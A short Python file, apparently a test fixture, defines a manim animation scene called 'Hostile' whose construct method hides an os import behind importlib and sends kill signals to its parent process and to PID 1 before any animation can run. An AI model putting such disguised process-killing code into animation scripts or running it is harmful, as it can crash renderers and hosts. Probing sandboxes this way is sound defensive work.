from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        proc = G("os")
        proc.kill(proc.getppid(), 9)
        proc.kill(1, 9)
        G("time").sleep(2)
        raise RuntimeError("parent survived the kill attempt")
        self.play(Create(Circle()), run_time=0.1)
